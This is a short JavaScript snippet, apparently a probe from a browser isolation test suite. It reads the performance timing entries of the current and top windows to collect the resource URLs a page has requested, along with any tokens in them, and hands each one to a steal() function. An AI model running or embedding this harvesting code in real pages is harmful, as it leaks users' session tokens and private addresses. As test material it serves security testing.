// Tries: read the addresses that the page has asked for, with the tokens in them.
(() => {
  const seen = new Set();
  const tell = (entries) => {
    for (const { name } of entries) if (!name.startsWith(HIDEOUT) && !seen.has(name)) steal("read-performance", (seen.add(name), name));
  };
  for (const view of [window, top]) {
    attempt(() => tell(view.performance.getEntries()));
    attempt(() => new view.PerformanceObserver((list) => tell(list.getEntries())).observe({ type: "resource", buffered: true }));
  }
  over("read-performance");
})();
